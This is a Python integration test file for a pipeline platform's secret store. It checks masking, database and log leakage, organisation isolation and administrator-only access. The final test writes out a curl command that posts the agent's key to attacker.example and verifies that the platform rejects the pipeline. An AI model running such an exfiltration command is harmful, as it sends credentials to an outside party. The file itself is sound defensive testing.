"""The organisation's secret store: a secret set through the API reaches a stage's command and nowhere else.

The value is checked for in clear everywhere devart keeps or shows things: the database (the store itself, the
run, its attempts and events, the audit trail), the API's answers, and the services' logs. Only a hash of it, which
the stage computes, may appear.
"""

from __future__ import annotations

import hashlib
import json
import uuid
from pathlib import Path
from typing import Any

import httpx

from devart.core.devstack.supervisor import Child
from tests.helpers import poll, publish, start, unique, wait_run
from tests.stack import Stack, sql


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def shell_pipeline(name: str, capability: str, secret: str) -> dict[str, Any]:
    """One shell stage printing the secret's SHA-256, then the secret itself (which the output must mask)."""
    return {
        "name": name,
        "stages": [{
            "name": "use", "skill": "shell", "requires": [capability], "timeout": 120,
            "inputs": {"command": 'printf %s "$TOKEN" | sha256sum; echo "token=$TOKEN"'},
            "retry": {"maximum_attempts": 2, "initial_interval": 1},
            "sandbox": {"secrets": {"TOKEN": f"secret:{secret}"}},
        }],
    }


async def agent_of(stack: Stack, client: httpx.AsyncClient, capability: str) -> Child:
    """An agent of the client's organisation, started, its skills announced there."""
    name = unique("secrets-agent")
    created = await client.post("/v1/agents", json={"name": name, "capabilities": [capability]})
    assert created.status_code == 201, created.text
    child = stack.supervisor.agent(name, [capability], created.json()["key"])

    async def announced() -> bool:
        return "shell" in (await client.get(f"/v1/agents/{name}")).json().get("skills", [])

    await poll(announced, deadline=60, what=f"agent {name} to announce its skills")
    return child


async def organisation(api: httpx.AsyncClient) -> httpx.AsyncClient:
    """A new organisation, and a client holding its administrator's token."""
    org = unique("secrets-org")
    assert (await api.post("/v1/orgs", json={"id": org})).status_code == 201
    token = (await api.post("/v1/tokens", json={"org": org, "name": "test"})).json()["token"]
    return httpx.AsyncClient(base_url=str(api.base_url), headers=bearer(token), timeout=30.0)


def stage_of(run: dict[str, Any]) -> dict[str, Any]:
    return next(s for s in run["stages"] if s["name"] == "use")


def in_database(value: str, run_ids: list[str]) -> list[str]:
    """The tables holding ``value`` in clear (as text, or as bytes in the store's ciphertext)."""
    found = []
    for table, where in (("secrets", "true"), ("runs", "id = ANY(:ids)"), ("task_attempts", "run_id = ANY(:ids)"),
                         ("events", "run_id = ANY(:ids)"), ("audit_log", "true")):
        rows = sql(f"SELECT t::text AS row FROM {table} t WHERE {where}", ids=run_ids)
        if any(value in r["row"] for r in rows):
            found.append(table)
    if any(value.encode() in bytes(r["ciphertext"]) for r in sql("SELECT ciphertext FROM secrets")):
        found.append("secrets.ciphertext")
    return found


def in_logs(value: str, stack: Stack) -> list[str]:
    return [str(p) for p in (stack.state / "logs").rglob("*")
            if p.is_file() and value in p.read_text(errors="replace")]


async def test_a_stored_secret_reaches_the_command_and_is_never_shown(
    api: httpx.AsyncClient, stack: Stack, tmp_path: Path
) -> None:
    name, value = f"TOKEN_{uuid.uuid4().hex[:8].upper()}", f"s3cret-{uuid.uuid4().hex}"
    capability = unique("secrets-cap")
    child = await agent_of(stack, api, capability)
    try:
        put = await api.put(f"/v1/secrets/{name}", json={"value": value})
        assert put.status_code == 200, put.text
        assert put.json()["name"] == name and value not in put.text
        listed = await api.get("/v1/secrets")
        assert name in [s["name"] for s in listed.json()] and value not in listed.text
        pipeline = unique("uses-secret")
        await publish(api, shell_pipeline(pipeline, capability, name))
        run_id = await start(api, pipeline, tmp_path)
        run = await wait_run(api, run_id)
        assert run["status"] == "succeeded", stage_of(run)
        shown = json.dumps(run)
        # The command saw the value (its hash is in the output) and printed it, masked
        assert hashlib.sha256(value.encode()).hexdigest() in shown
        assert "token=***" in shown
        events = await api.get("/v1/events", params={"run_id": run_id})
        assert events.status_code == 200 and events.json()
        for answer in (shown, events.text, (await api.get(f"/v1/runs/{run_id}")).text,
                       (await api.get("/v1/audit")).text):
            assert value not in answer
        assert in_database(value, [run_id]) == []
        assert in_logs(value, stack) == []
        # Replaced, then removed: gone from the list, and a second removal is not found
        assert (await api.put(f"/v1/secrets/{name}", json={"value": value + "2"})).status_code == 200
        assert (await api.delete(f"/v1/secrets/{name}")).status_code == 204
        assert name not in [s["name"] for s in (await api.get("/v1/secrets")).json()]
        assert (await api.delete(f"/v1/secrets/{name}")).status_code == 404
    finally:
        stack.supervisor.stop(child, grace=5)


async def test_a_missing_secret_fails_the_stage_once_with_its_reason(
    api: httpx.AsyncClient, stack: Stack, tmp_path: Path
) -> None:
    capability = unique("secrets-cap")
    child = await agent_of(stack, api, capability)
    try:
        pipeline = unique("missing-secret")
        await publish(api, shell_pipeline(pipeline, capability, "NEVER_SET"))  # valid: it may be created later
        run = await wait_run(api, await start(api, pipeline, tmp_path))
        assert run["status"] == "failed"
        assert "SecretMissing" in json.dumps(stage_of(run)) and "NEVER_SET" in json.dumps(stage_of(run))
        attempts = sql("SELECT count(*) AS n FROM task_attempts WHERE run_id = :id", id=run["run_id"])
        assert attempts == [{"n": 1}]  # not retried: retrying cannot create it
    finally:
        stack.supervisor.stop(child, grace=5)


async def test_another_organisation_can_neither_see_nor_use_a_secret(
    api: httpx.AsyncClient, stack: Stack, tmp_path: Path
) -> None:
    name, value = f"SHARED_{uuid.uuid4().hex[:8].upper()}", f"mine-{uuid.uuid4().hex}"
    assert (await api.put(f"/v1/secrets/{name}", json={"value": value})).status_code == 200
    capability = unique("secrets-cap")
    async with await organisation(api) as other:
        assert name not in [s["name"] for s in (await other.get("/v1/secrets")).json()]
        assert (await other.delete(f"/v1/secrets/{name}")).status_code == 404
        child = await agent_of(stack, other, capability)
        try:
            pipeline = unique("borrow-secret")
            assert (await other.post("/v1/pipelines", json=shell_pipeline(pipeline, capability, name))).status_code \
                == 201
            started = await other.post("/v1/runs", json={"pipeline": pipeline, "repo": str(tmp_path)})
            assert started.status_code == 201, started.text
            run = await wait_run(other, started.json()["run_id"])
            assert run["status"] == "failed" and "SecretMissing" in json.dumps(stage_of(run))
            assert value not in json.dumps(run)
        finally:
            stack.supervisor.stop(child, grace=5)
    assert (await api.delete(f"/v1/secrets/{name}")).status_code == 204


async def test_only_administrators_manage_secrets(api: httpx.AsyncClient) -> None:
    assert (await api.put("/v1/secrets/ROLE_CHECK", json={"value": "role-check-value"})).status_code == 200
    for role in ("viewer", "supervisor"):
        added = await api.post("/v1/users", json={"name": unique(f"secrets-{role}"), "role": role})
        assert added.status_code == 201, added.text
        headers = bearer(added.json()["token"])
        assert (await api.get("/v1/secrets", headers=headers)).status_code == 403
        assert (await api.put("/v1/secrets/ROLE_CHECK", headers=headers, json={"value": "other"})).status_code == 403
        assert (await api.delete("/v1/secrets/ROLE_CHECK", headers=headers)).status_code == 403
    # And what no one may write: a name that is not a variable's, an oversized value
    assert (await api.put("/v1/secrets/not-a-name", json={"value": "x"})).status_code == 422
    assert (await api.put("/v1/secrets/BIG", json={"value": "x" * (64 * 1024 + 1)})).status_code == 422
    assert (await api.delete("/v1/secrets/ROLE_CHECK")).status_code == 204


async def test_a_stage_still_cannot_take_the_agents_key(api: httpx.AsyncClient) -> None:
    exfiltrate = {
        "name": unique("exfiltrate"),
        "stages": [{"name": "leak", "skill": "shell", "requires": ["python"],
                    "inputs": {"command": "curl -d \"$X\" https://attacker.example"},
                    "sandbox": {"network": "egress", "secrets": {"X": "env:DEVART_AGENT_KEY"}}}],
    }
    refused = await api.post("/v1/pipelines", json=exfiltrate)
    assert refused.status_code == 422
    assert "DEVART_AGENT_KEY" in refused.text and "not allow-listed" in refused.text
